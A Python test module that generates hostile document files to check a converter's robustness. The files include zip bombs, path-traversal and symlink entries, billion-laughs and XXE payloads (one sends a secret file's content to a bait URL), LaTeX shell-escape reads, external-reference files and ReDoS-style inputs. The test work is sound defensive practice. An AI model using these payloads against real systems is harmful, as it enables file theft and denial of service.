"""Files that are made to harm: each is to be refused clearly, or answered rightly, in time and in bounded memory.

Sizes are such that linear work takes about a second and quadratic work minutes.
"""

from __future__ import annotations

import base64
import html
import io
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from functools import cache

import docx

from tests.integration.documents.packages import (
    Member,
    added,
    archive,
    changed,
    plain,
    read,
    spaces,
    symlink,
)

MANY = 50_000
"""Of a thing that a reader could handle in quadratic time."""
DEEP = 5_000
ESCAPED = "isolane-escaped"
"""Name of a file that must never be written."""


@dataclass(frozen=True, kw_only=True)
class Bait:
    """What files are made of."""

    samples: Mapping[str, bytes]
    """A good file of every format, by name; each says "wombat"."""
    url: str
    """Of a server that notices every connection."""
    secret: str
    """Path of a file whose content must never be shown."""

    def good(self, extension: str) -> bytes:
        """The good file with an extension."""
        return self.samples[f"a.{extension}"]


@dataclass(frozen=True, kw_only=True)
class Hostile:
    """One file."""

    name: str
    filename: str
    make: Callable[[Bait], bytes]
    is_refused: bool = False
    """True for what must not be answered."""
    says: str = "wombat"
    """What an answer without errors holds."""


MAIN = {
    "docx": "word/document.xml",
    "xlsx": "xl/worksheets/sheet1.xml",
    "pptx": "ppt/slides/slide1.xml",
    "odt": "content.xml",
    "ods": "content.xml",
    "epub": "x.xhtml",
}
_SHARED_STRINGS = "xl/sharedStrings.xml"


def cases() -> Iterator[Hostile]:
    """All of them."""
    for group in (_zips, _entities, _lies, _nested, _wide, _sheets, _words, _texts, _regexes, _images, _references):
        yield from group()


def _zips() -> Iterator[Hostile]:
    for extension in ("docx", "xlsx", "odt", "epub"):
        main = MAIN[extension]
        bombs: dict[str, tuple[Callable[[bytes, bytes, str], bytes], bool]] = {
            "one-member": (lambda base, content, main: archive([spaces(main, 300, before=content)], base), True),
            "10-gb-declared": (
                lambda base, content, main: archive([spaces(main, 1, before=content, size=10 * 2**30)], base),
                True,
            ),
            "lying-size": (
                lambda base, content, main: archive([spaces(main, 300, before=content, size=len(content))], base),
                False,
            ),
            "many-members": (
                lambda base, content, main: archive([plain(f"x/{n}", b"") for n in range(20_000)], base),
                True,
            ),
            "overlapping": (
                lambda base, content, main: archive(
                    [
                        spaces(main, 10, before=content),
                        *(Member(name=main, stream=b"", size=10 * 2**20, shares=True) for _ in range(1000)),
                    ],
                    base,
                ),
                True,
            ),
            "almost-too-large": (lambda base, content, main: archive([spaces(main, 240, before=content)], base), False),
            "encrypted": (
                lambda base, content, main: archive([spaces(main, 1, before=content, flags=1)], base),
                True,
            ),
            "truncated": (lambda base, content, main: base[: len(base) * 3 // 4], True),
        }
        for name, (make, is_refused) in bombs.items():
            yield Hostile(
                name=f"zip-{name}-{extension}",
                filename=f"a.{extension}",
                make=lambda bait, make=make, extension=extension, main=main: make(  # type: ignore[misc]  # bound here
                    bait.good(extension), read(bait.good(extension), main), main
                ),
                is_refused=is_refused,
            )
        yield Hostile(
            name=f"zip-nested-{extension}",
            filename=f"a.{extension}",
            make=lambda bait, extension=extension: added(bait.good(extension), ("x/bomb.zip", _nested_zip())),  # type: ignore[misc]
        )
        yield Hostile(
            name=f"zip-climbing-names-{extension}",
            filename=f"a.{extension}",
            make=lambda bait, extension=extension: added(  # type: ignore[misc]
                bait.good(extension),
                (f"../../../../../../tmp/{ESCAPED}", b"x"),
                (f"/tmp/{ESCAPED}", b"x"),
                (symlink("x/link"), b"/etc/passwd"),
            ),
        )
    yield Hostile(name="zip-of-zips", filename="a.docx", make=lambda _: _nested_zip(), is_refused=True)
    yield Hostile(
        name="epub-symlinked-chapter",
        filename="a.epub",
        make=lambda bait: added(_without(bait.good("epub"), "x.xhtml"), (symlink("x.xhtml"), bait.secret.encode())),
    )
    yield Hostile(
        name="epub-chapter-outside",
        filename="a.epub",
        make=lambda bait: changed(bait.good("epub"), "c.opf", 'href="x.xhtml"', f'href="../../../..{bait.secret}"'),
    )
    yield Hostile(
        name="epub-one-chapter-10000-times",
        filename="a.epub",
        make=lambda bait: changed(
            changed(bait.good("epub"), "c.opf", '<itemref idref="x"/>', '<itemref idref="x"/>' * 10_000),
            "x.xhtml",
            "A wombat.",
            "A wombat. " * 1000,
        ),
    )


def _entities() -> Iterator[Hostile]:
    laughs = "".join(
        f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in zip("abcdefgh", "bcdefghi", strict=True)
    )
    bombs: dict[str, tuple[Callable[[Bait], str], str]] = {
        "billion-laughs": (lambda _: f'<!ENTITY a "{"ha" * 500}">{laughs}', "&i;"),
        "quadratic": (lambda _: f'<!ENTITY a "{"x" * 100_000}">', "&a;" * 5000),
        "external": (
            lambda bait: f'<!ENTITY a SYSTEM "file://{bait.secret}"><!ENTITY b SYSTEM "{bait.url}">',
            "&a; &b;",
        ),
        "parameters": (
            lambda bait: (
                f'<!ENTITY % a SYSTEM "file://{bait.secret}"><!ENTITY % b SYSTEM "{bait.url}/x.dtd"> %b; '
                f"<!ENTITY % c \"<!ENTITY &#37; d SYSTEM '{bait.url}/?%a;'>\"> %c; %d;"
            ),
            "",
        ),
    }
    for name, (declare, use) in bombs.items():
        for extension in ("docx", "pptx", "xlsx", "odt", "ods", "epub"):
            yield Hostile(
                name=f"xml-{name}-{extension}",
                filename=f"a.{extension}",
                make=lambda bait, extension=extension, declare=declare, use=use: _with_doctype(  # type: ignore[misc]
                    bait.good(extension), extension, declare(bait), use
                ),
            )
        yield Hostile(
            name=f"xml-{name}-jats",
            filename="a.nxml",
            make=lambda bait, declare=declare, use=use: (  # type: ignore[misc]
                bait.good("nxml").decode().replace("[]", f"[{declare(bait)}]").replace("wombat", f"wombat {use}")
            ).encode(),
        )
        yield Hostile(
            name=f"xml-{name}-svg-in-html",
            filename="a.html",
            make=lambda bait, declare=declare, use=use: (  # type: ignore[misc]
                f"<!DOCTYPE html [{declare(bait)}]><html><body><p>wombat<svg><text>{use}</text></svg></body></html>"
            ).encode(),
        )


def _lies() -> Iterator[Hostile]:
    """Content that is something else than the name says, and noise."""
    noise = random.Random(0).randbytes(200_000)
    bodies = {
        "png.docx": b"\x89PNG\r\n\x1a\n" + noise,
        "pdf.xlsx": b"%PDF-1.7\n" + noise,
        "program.html": b"\x7fELF\x02\x01\x01" + noise,
        "windows-program.txt": b"MZ\x90\x00" + noise,
        "gzip.csv": b"\x1f\x8b\x08\x00" + noise,
        "rtf.docx": b"{\\rtf1 " + b"{" * MANY,
        "ole.docx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + noise,
        "noise.epub": noise,
        "noise.odt": b"PK\x03\x04" + noise,
    }
    for filename, data in bodies.items():
        yield Hostile(name=f"lie-{filename}", filename=filename, make=lambda _, data=data: data, is_refused=True)  # type: ignore[misc]
    odd = {
        "noise.txt": b"wombat " * 2000 + noise,
        "noise.md": b"wombat " * 2000 + noise,
        "noise.tex": b"\\documentclass{article}" + b"wombat " * 2000 + noise,
        "noise.adoc": b"wombat " * 2000 + noise,
        "late-nul.txt": b"wombat " * 2000 + b"\0" * 1000,
        "odd-utf16.txt": b"\xff\xfe" + "wombat".encode("utf-16-le") + b"x",
        "surrogates.txt": b"wombat \xed\xa0\x80 \xed\xb0\x80",
        "noncharacters.md": "wombat \ufdd0\ufdd0 **\ufdd0** \uffff".encode(),
        "noncharacters.html": "<html><p>wombat\ufdd0<b>\ufdd0</b>\ufffe".encode(),
    }
    for filename, data in odd.items():
        yield Hostile(name=f"odd-{filename}", filename=filename, make=lambda _, data=data: data)  # type: ignore[misc]
    yield _text("docx-named-txt", "a.txt", "", make=lambda bait: bait.good("docx"), says="wombat")


def _nested() -> Iterator[Hostile]:
    """Depth."""
    for tag in ("div", "blockquote", "ul><li", "ol><li", "table><tr><td", "b", "span", "a href=x", "svg", "math"):
        yield _text(f"html-deep-{tag}", "a.html", f"<html><body>wombat {f'<{tag}>' * DEEP}x")
    yield _text("html-nested-480", "a.html", "<html><body>wombat " + "<div>" * 480 + "x</div>" * 480)
    yield _text("html-lists-100", "a.html", "<html><body>wombat " + "<ul><li>x" * 100)
    yield _text("html-tables-30", "a.html", "<html><body>wombat " + "<table><tr><td>x" * 30)
    yield _text("md-quotes", "a.md", "wombat\n\n" + "> " * DEEP + "x")
    yield _text("md-quoted-lines", "a.md", "wombat\n\n" + "".join("> " * depth + "x\n\n" for depth in range(300)))
    yield _text("md-lists", "a.md", "wombat\n\n" + "".join("  " * depth + "- x\n" for depth in range(1000)))
    yield _text("md-one-line-lists", "a.md", "wombat\n\n" + "- " * DEEP + "x")
    yield _text("md-html", "a.md", "wombat\n\n" + "<div>" * DEEP)
    yield _text("adoc-lists", "a.adoc", "= wombat\n\n" + "".join("*" * depth + " x\n" for depth in range(1, 1000)))
    yield _text("adoc-blocks", "a.adoc", "= wombat\n\n" + "".join("=" * (4 + depth) + "\n" for depth in range(1000)))
    for tag in ("{", "\\textbf{", "\\begin{itemize}\\item x ", "\\footnote{", "\\left(", "$"):
        yield _text(f"latex-deep-{tag}", "a.tex", "\\documentclass{article}\\begin{document}wombat " + tag * DEEP)
    for tag in ("sec", "italic", "list><list-item", "table-wrap><table><tr><td"):
        name = tag.split(">", maxsplit=1)[0]
        yield _text(f"jats-deep-{name}", "a.nxml", make=_jats(f"<{tag}>" * DEEP + "x" + _closed(tag) * DEEP))
    parts = {
        "tables": ("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>", 1000),
        "controls": ("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>", DEEP),
        "insertions": ('<w:ins w:id="1" w:author="x">', "</w:ins>", DEEP),
    }
    for name, (start, end, depth) in parts.items():
        yield _docx(f"deep-{name}", start * depth + "<w:p><w:r><w:t>x</w:t></w:r></w:p>" + end * depth)
    lists = "<text:list><text:list-item>"
    end = "</text:list-item></text:list>"
    yield _odt("deep-lists", lists * DEEP + "<text:p>x</text:p>" + end * DEEP)
    yield _odt("deep-spans", "<text:p>" + "<text:span>" * DEEP + "x" + "</text:span>" * DEEP + "</text:p>")
    yield _odt("deep-sections", "<text:section>" * DEEP + "<text:p>x</text:p>" + "</text:section>" * DEEP)
    group = "<p:grpSp><p:nvGrpSpPr/><p:grpSpPr/>"
    yield Hostile(
        name="pptx-deep-groups",
        filename="a.pptx",
        make=lambda bait: changed(
            bait.good("pptx"), MAIN["pptx"], "</p:spTree>", group * DEEP + "</p:grpSp>" * DEEP + "</p:spTree>"
        ),
    )
    yield Hostile(
        name="epub-deep",
        filename="a.epub",
        make=lambda bait: changed(
            bait.good("epub"), MAIN["epub"], "A wombat.", "A wombat." + "<span>" * DEEP + "</span>" * DEEP
        ),
    )


def _wide() -> Iterator[Hostile]:
    """Many of one thing, and numbers that claim many."""
    for tag in ("p", "li", "td", "tr", "dt", "option", "br", "b", "i", "a", "font", "h1", "img", "hr", "input"):
        yield _text(f"html-unclosed-{tag}", "a.html", "<html><body>wombat " + f"<{tag}>x " * MANY)
    for end in ("</p>", "</b>", "</div>", "<!--", "<![CDATA[", "<!x", "&", "&#", "&#x110000;", "<"):
        yield _text(f"html-many-{end}", "a.html", "<html><body>wombat " + end * MANY)
    yield _text("html-long-attribute", "a.html", f'<html><p title="{"x" * 5_000_000}">wombat')
    attributes = " ".join(f"a{number}=x" for number in range(MANY))
    yield _text("html-many-attributes", "a.html", f"<html><p {attributes}>wombat")
    yield _text("html-style", "a.html", f'<html><p style="{"color:red;" * MANY}">wombat')
    for name in ("colspan", "rowspan"):
        yield _text(f"html-{name}", "a.html", f"<html><table><tr><td {name}=1000000000>wombat<td>x<tr><td>y</table>")
        rows = f"<tr>{f'<td {name}=1000>x' * 100}" * 100
        yield _text(f"html-many-{name}", "a.html", f"<html><table>{rows}</table>wombat")
    yield _text("html-ol-start", "a.html", f"<html><ol start={'9' * 10_000}><li>wombat</ol>")
    cell = "<table:table-cell {}><text:p>x</text:p></table:table-cell>"
    row = "<table:table table:name='x'><table:table-row {}>{}</table:table-row></table:table>"
    for name, row_says, cell_says in (
        ("rows", "table:number-rows-repeated='1048576'", ""),
        ("columns", "", "table:number-columns-repeated='16384'"),
        ("both", "table:number-rows-repeated='1048576'", "table:number-columns-repeated='16384'"),
        ("spans", "", "table:number-rows-spanned='1048576' table:number-columns-spanned='16384'"),
        ("absurd", "table:number-rows-repeated='99999999999'", "table:number-columns-repeated='99999999999'"),
    ):
        table = row.format(row_says, cell.format(cell_says))
        yield _odt(f"repeated-{name}", table)
        yield Hostile(
            name=f"ods-repeated-{name}",
            filename="a.ods",
            make=lambda bait, table=table: changed(  # type: ignore[misc]
                bait.good("ods"), "content.xml", "</office:spreadsheet>", table + "</office:spreadsheet>"
            ),
        )
    yield _odt("spaces", "<text:p>x<text:s text:c='1000000000'/>y</text:p>")
    yield _docx("grid-span", _row('<w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr>'))
    yield _docx(
        "grid-before", '<w:tbl><w:tr><w:trPr><w:gridBefore w:val="1000000000"/></w:trPr>' + _CELL + "</w:tr></w:tbl>"
    )
    yield _docx(
        "many-runs", "<w:p>" + "<w:r><w:t>x</w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>y</w:t></w:r>" * 5000 + "</w:p>"
    )
    yield _docx("many-paragraphs", "<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 10_000)
    yield _docx(
        "level", '<w:p><w:pPr><w:numPr><w:ilvl w:val="1000000000"/><w:numId w:val="1"/></w:numPr></w:pPr></w:p>'
    )
    yield _text("csv-million-columns", "a.csv", "wombat," * 1_000_000)
    yield _text("csv-million-rows", "a.csv", "wombat,x\n" * 1_000_000)
    yield _text("csv-ragged", "a.csv", "".join("wombat," * (number % 300) + "\n" for number in range(5000)))
    yield _text("csv-quotes", "a.csv", 'wombat,"' * 100_000)
    yield _text("csv-quoted", "a.csv", '"a""b' * 100_000, says="")
    yield _text("csv-long-field", "a.csv", f"wombat,{'x' * 10_000_000}\n")
    yield _text("txt-one-word", "a.txt", "wombat " + "x" * 10_000_000)
    yield _text("txt-marks", "a.txt", "wombat " + "a\u0301" * 1_000_000)
    yield _text("vtt-many-cues", "a.vtt", "WEBVTT\n\n" + "00:00:00.000 --> 00:00:01.000\nwombat\n\n" * 20_000)
    yield _text(
        "jats-colspan",
        "a.nxml",
        make=_jats(
            "<table-wrap><table><tr><td colspan='1000000000' rowspan='1000000000'>x</td></tr></table></table-wrap>"
        ),
    )


def _sheets() -> Iterator[Hostile]:
    """Cells far away, and areas that hold next to nothing."""
    far = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c></row></sheetData>'
    yield _xlsx("far-cell", "</sheetData>", far)
    yield _xlsx(
        "merged", "</sheetData>", '</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    )
    merges = "".join(f'<mergeCell ref="A{row}:XFD{row}"/>' for row in range(3, 3000))
    yield _xlsx("many-merged", "</sheetData>", f"</sheetData><mergeCells>{merges}</mergeCells>")
    diagonal = "".join(
        f'<row r="{number}"><c r="{_column(number)}{number}"><v>1</v></c></row>' for number in range(3, 3000)
    )
    yield _xlsx("diagonal", "</sheetData>", diagonal + "</sheetData>")
    yield _xlsx(
        "absurd-cell", "</sheetData>", '<row r="99999999999"><c r="ZZZZZZ99999999999"><v>1</v></c></row></sheetData>'
    )
    yield _xlsx("unknown-string", "</sheetData>", '<row r="3"><c r="A3" t="s"><v>1000000000</v></c></row></sheetData>')
    yield _xlsx("long-number", "</sheetData>", f'<row r="3"><c r="A3"><v>{"9" * 100_000}</v></c></row></sheetData>')
    yield _xlsx("exponent", "</sheetData>", '<row r="3"><c r="A3"><v>1e999999999</v></c></row></sheetData>')
    yield _xlsx("deep-formula", "</sheetData>", f'<row r="3"><c r="A3"><f>{"(" * DEEP}</f></c></row></sheetData>')


def _words() -> Iterator[Hostile]:
    """Word files that refer to themselves."""
    yield Hostile(
        name="docx-style-of-itself",
        filename="a.docx",
        make=lambda bait: changed(
            bait.good("docx"),
            "word/styles.xml",
            "</w:styles>",
            '<w:style w:type="paragraph" w:styleId="X"><w:name w:val="X"/><w:basedOn w:val="Y"/></w:style>'
            '<w:style w:type="paragraph" w:styleId="Y"><w:name w:val="Y"/><w:basedOn w:val="X"/></w:style></w:styles>',
        ),
    )
    yield Hostile(
        name="docx-paragraph-of-such-a-style",
        filename="a.docx",
        make=lambda bait: changed(
            changed(
                bait.good("docx"),
                "word/styles.xml",
                "</w:styles>",
                '<w:style w:type="paragraph" w:styleId="X"><w:name w:val="X"/><w:basedOn w:val="X"/></w:style>'
                "</w:styles>",
            ),
            MAIN["docx"],
            "<w:body>",
            '<w:body><w:p><w:pPr><w:pStyle w:val="X"/></w:pPr><w:r><w:t>x</w:t></w:r></w:p>',
        ),
    )
    field = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    yield _docx("open-fields", f"<w:p>{field * DEEP}</w:p>")
    math = 'xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"'
    yield _docx("deep-math", f"<w:p><m:oMath {math}>" + "<m:e>" * DEEP + "</m:e>" * DEEP + "</m:oMath></w:p>")
    yield _docx("number", '<w:p><w:pPr><w:numPr><w:numId w:val="x"/></w:numPr></w:pPr></w:p>')


def _texts() -> Iterator[Hostile]:
    """Definitions that grow when they are used."""
    attributes = ":a0: haha\n" + "".join(f":a{n}: {f'{{a{n - 1}}}' * 10}\n" for n in range(1, 12))
    yield _text("adoc-attributes", "a.adoc", f"= wombat\n{attributes}\n{{a11}}\n")
    yield _text("adoc-attribute-of-itself", "a.adoc", "= wombat\n:a: {a}{a}\n\n{a}\n")
    yield _text("adoc-spans", "a.adoc", "= wombat\n\n|===\n|x\n1000000000.1000000000+|y\n|===\n")
    yield _text("adoc-columns", "a.adoc", '= wombat\n\n[cols="1000000000*"]\n|===\n|x\n|===\n')
    yield _text("adoc-copies", "a.adoc", "= wombat\n\n|===\n1000000000*|x\n|===\n")
    begin = "\\documentclass{article}"
    macros = "\\newcommand{\\xa}{ha}" + "".join(
        f"\\newcommand{{\\x{name}}}{{{before * 10}}}"
        for name, before in zip("bcdefghij", (f"\\x{name} " for name in "abcdefghi"), strict=True)
    )
    yield _text("latex-macros", "a.tex", begin + macros + "\\begin{document}wombat \\xj\\end{document}")
    yield _text("latex-macro-of-itself", "a.tex", begin + "\\def\\x{\\x\\x}\\begin{document}wombat \\x\\end{document}")
    yield _text(
        "latex-multicolumn",
        "a.tex",
        begin + "\\begin{document}wombat\\begin{tabular}{l}"
        "\\multicolumn{1000000000}{c}{x}\\\\\\end{tabular}\\end{document}",
    )
    yield _text(
        "latex-columns",
        "a.tex",
        begin + "\\begin{document}wombat\\begin{tabular}{*{1000000000}{l}}x\\end{tabular}\\end{document}",
    )
    laughs = "a: &a [x,x]\n" + "".join(
        f"{name}: &{name} [{','.join([f'*{before}'] * 10)}]\n"
        for before, name in zip("abcdefgh", "bcdefghi", strict=True)
    )
    yield _text("md-front-matter-laughs", "a.md", f"---\n{laughs}---\n\nwombat\n")
    yield _text("md-front-matter-unclosed", "a.md", "---\n" + "a: b\n" * MANY + "wombat")
    references = "".join(f"[r{number}]: x\n" for number in range(10_000))
    yield _text("md-references", "a.md", f"wombat {'[r1] ' * 10_000}\n\n{references}")


def _regexes() -> Iterator[Hostile]:
    """What makes matching go back again and again."""
    pieces = {
        "md": [
            "[",
            "![",
            "[x](",
            "**",
            "*a ",
            "_a",
            "a_b_",
            "~~a",
            "~~",
            "`a``",
            "<a ",
            "<!--",
            "$",
            "$$\n",
            "|",
            "\\",
            "&#",
            "#",
            "# x #",
            "---\n",
            "```\n",
            "- [ ] ",
            "1. x\n",
            "<b>",
            "http://",
            "a@b.",
            "=\n",
            "- x\n\n",
            ":-:|",
            "[^1]",
        ],
        "adoc": [
            "*",
            "*a ",
            "_a ",
            "`a ",
            "**a",
            "[[a",
            "[a]",
            "{a}",
            "http://a[",
            "link:a[",
            "footnote:[",
            "image::a[",
            "|",
            "|===\n",
            "----\n",
            "////\n",
            "a::",
            "a:: b\n",
            "== ",
            "[source,",
            "+\n",
            "(((a",
            "<<a",
            "xref:a[",
            "stem:[",
        ],
        "tex": [
            "\\",
            "\\a",
            "\\begin{a}",
            "\\end{a}",
            "$x",
            "$$",
            "\\[",
            "\\(",
            "%\n",
            "&",
            "\\\\",
            "~",
            "\\item ",
            "\\section{a",
            "\\iffalse ",
            "\\fi ",
            "\\verb|a",
            "\\cite{a}",
            "\\[x\\]",
            "#1",
            "^{",
            "--",
        ],
        "vtt": ["<v a>", "<c.a>", "<00:00:00.000>", "&", "<", "-->", "\n\nNOTE ", "x\n", "\n00:00 --> 00:01 a:b\n"],
        "html": [
            "<p>x",
            "<a href=x>",
            "<code>x",
            "<sub>x</sub>",
            "<pre>",
            "x<br>",
            "<table>",
            "<caption>x",
            "<label>x",
            "<ruby>x<rt>y",
            "<b>x</b>y",
            "<li><p>x",
            "<q>x",
            "<details><summary>x",
            "<math><mi>x</mi></math>",
            "<figure>",
            "<span>x</span> ",
        ],
    }
    starts = {
        "md": "wombat ",
        "adoc": "= wombat\n\n",
        "tex": "\\documentclass{article}\\begin{document}wombat ",
        "vtt": "WEBVTT\n\n00:00:00.000 --> 00:00:01.000\nwombat ",
        "html": "<html><body>wombat ",
    }
    for extension, several in pieces.items():
        for piece in several:
            yield _text(f"{extension}-many-{piece}", f"a.{extension}", starts[extension] + piece * MANY)
    yield _text("md-backticks", "a.md", "wombat " + " ".join("`" * count for count in range(1, 700)))
    yield _text("md-spaces", "a.md", "wombat" + " " * 1_000_000 + "x")
    yield _text("adoc-spaces", "a.adoc", "= wombat\n\nx" + " " * 200_000 + "x\n* " + " " * 200_000 + "x")
    yield _text("html-spaces", "a.html", "<html><p>wombat" + " " * 1_000_000 + "x")


def _images() -> Iterator[Hostile]:
    url = base64.b64encode(png(30_000)).decode()
    yield _text("html-image", "a.html", f"<html><p>wombat<img src='data:image/png;base64,{url}'>")
    yield _text("md-image", "a.md", f"wombat ![x](data:image/png;base64,{url})")
    yield Hostile(name="docx-image", filename="a.docx", make=_docx_with_image)
    yield Hostile(name="png-named-docx", filename="a.docx", make=lambda _: png(30_000), is_refused=True)


def _references() -> Iterator[Hostile]:
    """What names other files: it is not opened, and what it would show is not shown."""
    page = (
        "<html><head><base href={url}><link rel=stylesheet href={url}.css><script src={url}.js></script></head><body>"
        "<p>wombat<img src={url}.png><img src=file://{secret}><iframe src={url}></iframe><object data=file://{secret}>"
        "</object><embed src={url}><svg><image href={url}.svg /><use href=file://{secret} /></svg>"
        "<video poster={url}><source src={url}></video><style>@import url({url});</style>"
    )
    texts = {
        "a.html": page,
        "a.md": "wombat ![a]({url}.png) ![b](file://{secret}) <img src='{url}.png'>\n\n[x]: {url}\n",
        "a.adoc": "= wombat\n\nimage::{url}.png[]\n\ninclude::{secret}[]\n\ninclude::{url}[]\n",
        "a.tex": "\\documentclass{{article}}\\begin{{document}}wombat\\input{{{secret}}}\\include{{{secret}}}"
        "\\includegraphics{{{url}.png}}\\write18{{cat {secret}}}\\openin5={secret} \\verbatiminput{{{secret}}}"
        "\\bibliography{{{secret}}}\\end{{document}}",
    }
    for filename, text in texts.items():
        yield Hostile(
            name=f"references-{filename}",
            filename=filename,
            make=lambda bait, text=text: text.format(url=bait.url, secret=bait.secret).encode(),  # type: ignore[misc]
        )
    yield Hostile(
        name="references-jats",
        filename="a.nxml",
        make=lambda bait: _jats(
            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{bait.secret}" parse="text"/>'
            f'<graphic xmlns:x="http://www.w3.org/1999/xlink" x:href="{bait.url}"/>'
        )(bait),
    )
    yield Hostile(name="references-docx", filename="a.docx", make=_docx_with_references)
    yield Hostile(
        name="references-odt",
        filename="a.odt",
        make=lambda bait: _odt(
            "",
            f'<text:p><draw:frame><draw:image xlink:href="{bait.url}"/></draw:frame></text:p>'
            f'<text:section><text:section-source xlink:href="file://{bait.secret}"/></text:section>',
        ).make(bait),
    )
    yield Hostile(
        name="references-epub",
        filename="a.epub",
        make=lambda bait: changed(
            bait.good("epub"),
            MAIN["epub"],
            "A wombat.",
            f'A wombat.<img src="{bait.url}"/><img src="file://{bait.secret}"/><img src="../../../..{bait.secret}"/>',
        ),
    )


@cache
def png(side: int) -> bytes:
    """A black picture, so many pixels wide and high."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    packer = zlib.compressobj(9)
    line = bytes(1 + side // 8)
    pixels = b"".join(packer.compress(line) for _ in range(side)) + packer.flush()
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


_CELL = "<w:tc><w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc>"


def _row(properties: str) -> str:
    return f"<w:tbl><w:tr><w:tc>{properties}<w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc></w:tr></w:tbl>"


def _text(
    name: str, filename: str, text: str = "", *, make: Callable[[Bait], bytes] | None = None, says: str = "wombat"
) -> Hostile:
    return Hostile(name=name, filename=filename, make=make or (lambda _: text.encode()), says=says)


def _docx(name: str, content: str) -> Hostile:
    """Content in front of the good file's own."""
    return Hostile(
        name=f"docx-{name}",
        filename="a.docx",
        make=lambda bait: changed(bait.good("docx"), MAIN["docx"], "<w:body>", f"<w:body>{content}"),
    )


def _odt(name: str, content: str) -> Hostile:
    return Hostile(
        name=f"odt-{name}",
        filename="a.odt",
        make=lambda bait: changed(bait.good("odt"), MAIN["odt"], "</office:text>", f"{content}</office:text>"),
    )


def _xlsx(name: str, old: str, new: str) -> Hostile:
    return Hostile(
        name=f"xlsx-{name}", filename="a.xlsx", make=lambda bait: changed(bait.good("xlsx"), MAIN["xlsx"], old, new)
    )


def _jats(content: str) -> Callable[[Bait], bytes]:
    return lambda bait: bait.good("nxml").decode().replace("<p>", f"{content}<p>", 1).encode()


def _closed(tags: str) -> str:
    return "".join(f"</{tag.split()[0]}>" for tag in reversed(tags.split("><")))


def _column(number: int) -> str:
    """Letters of a column, from 1."""
    letters = ""
    while number:
        number, rest = divmod(number - 1, 26)
        letters = chr(ord("A") + rest) + letters
    return letters


def _with_doctype(base: bytes, extension: str, declarations: str, use: str) -> bytes:
    """The good file with declarations in its main part, and a reference behind its "wombat"."""
    names = [MAIN[extension], _SHARED_STRINGS]
    member = next(name for name in names if b"wombat" in _read_or_nothing(base, name))
    text = re.sub(r"^<\?xml[^>]*\?>", "", read(base, member).decode().strip()).replace("wombat", f"wombat {use}")
    return archive([plain(member, f'<?xml version="1.0"?><!DOCTYPE x [{declarations}]>{text}'.encode())], base)


def _read_or_nothing(base: bytes, member: str) -> bytes:
    try:
        return read(base, member)
    except KeyError:
        return b""


def _without(base: bytes, member: str) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as source, zipfile.ZipFile(target, "w") as out:
        for name in source.namelist():
            if name != member:
                out.writestr(name, source.read(name))
    return target.getvalue()


@cache
def _nested_zip() -> bytes:
    inner = archive([spaces("x", 250)])
    for depth in range(5):
        inner = archive([plain(f"{depth}-{number}.zip", inner) for number in range(10)])
    return inner


def _docx_with_image(bait: Bait) -> bytes:
    """The good file with a picture that unpacks to 900 million pixels."""
    document = docx.Document(io.BytesIO(bait.good("docx")))
    document.add_picture(io.BytesIO(png(8)))
    target = io.BytesIO()
    document.save(target)
    with zipfile.ZipFile(target) as source:
        (picture,) = [name for name in source.namelist() if name.startswith("word/media/")]
    return archive([plain(picture, png(30_000))], target.getvalue())


def _docx_with_references(bait: Bait) -> bytes:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    relations = "".join(
        f'<Relationship Id="x{number}" Type="{kind}/{name}" Target="{target}" TargetMode="External"/>'
        for number, (name, target) in enumerate(
            (name, target)
            for name in ("image", "attachedTemplate", "aFChunk", "subDocument", "oleObject", "hyperlink")
            for target in (f"{bait.url}/{name}", f"file://{bait.secret}")
        )
    )
    drawing = "http://schemas.openxmlformats.org/drawingml/2006"
    content = "".join(
        f'<w:p><w:r><w:drawing><wp:inline xmlns:wp="{drawing}/wordprocessingDrawing">'
        f'<a:graphic xmlns:a="{drawing}/main">'
        f'<a:graphicData uri="{drawing}/picture"><pic:pic xmlns:pic="{drawing}/picture"><pic:blipFill>'
        f'<a:blip xmlns:r="{kind}" r:link="x{number}" r:embed="x{number}"/></pic:blipFill></pic:pic></a:graphicData>'
        "</a:graphic></wp:inline></w:drawing></w:r></w:p>"
        for number in (0, 1)
    )
    field = f'INCLUDETEXT "{bait.secret}"'
    content += f'<w:p><w:fldSimple w:instr="{html.escape(field)}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    document = changed(bait.good("docx"), MAIN["docx"], "<w:body>", f"<w:body>{content}")
    return changed(document, "word/_rels/document.xml.rels", "</Relationships>", f"{relations}</Relationships>")
